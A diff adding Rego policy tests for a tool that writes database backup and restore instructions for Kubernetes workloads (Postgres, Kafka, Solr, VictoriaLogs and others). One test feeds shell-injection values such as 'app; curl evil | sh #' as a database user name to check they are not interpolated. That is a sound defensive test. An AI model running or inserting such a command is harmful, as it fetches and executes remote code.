@@ -12,6 +12,12 @@ workload(kind, name, env) := {"workload": {
 
 said(document) := text if text := dumps.save with input as document
 
+test_a_name_that_a_shell_would_read_is_left_to_the_reader if {
+	every name in ["app; curl evil | sh #", "$(OTHER)", "my user", ""] {
+		contains(said(workload("Pod", "postgres", [{"name": "POSTGRES_USER", "value": name}])), "-U USER >")
+	}
+}
+
 test_command_names_the_workload if {
 	found := said(workload("StatefulSet", "postgres", []))
 	startswith(found, "stop the clients, then kubectl exec -n shop statefulset/pg -c db -- pg_dumpall -U postgres > dump.sql;")
@@ -64,3 +70,30 @@ test_what_has_no_dump_is_not_told_to_load_one if {
 }
 
 test_a_dump_is_loaded if dumps.back == "load the dump" with input.workload.engine.name as "mysql"
+
+test_kafka_mirrors_without_new_names if {
+	every name in ["kafka", "redpanda"] {
+		contains(dumps.with_tool(name), "MirrorMaker 2 into another cluster, with IdentityReplicationPolicy")
+		back := dumps.back with input.workload.engine.name as name
+		startswith(back, "mirror it back in the same way")
+	}
+}
+
+# What is in the pod goes with the restart that turns a backup on.
+test_what_has_to_be_turned_on_is_said if {
+	every name in ["elasticsearch", "victoria-metrics", "neo4j", "weaviate", "prometheus"] {
+		contains(dumps.with_tool(name), "restart")
+	}
+}
+
+test_solr_without_cloud_has_another_backup if contains(dumps.with_tool("solr"), "/solr/CORE/replication?command=backup")
+
+test_victoria_logs_has_a_backup_of_its_own if {
+	image := {"repository": "victoriametrics/victoria-logs"}
+	containers := {"workload": {"containers": [{"name": "db", "image": image, "env": []}]}}
+	logs := object.union(workload("StatefulSet", "victoria-metrics", []), containers)
+	startswith(said(logs), "stop what sends logs, call /internal/partition/snapshot/create for each day")
+	back := dumps.back with input as logs
+	contains(back, "partitions/DAY")
+	startswith(said(workload("StatefulSet", "victoria-metrics", [])), "vmctl vm-native")
+}
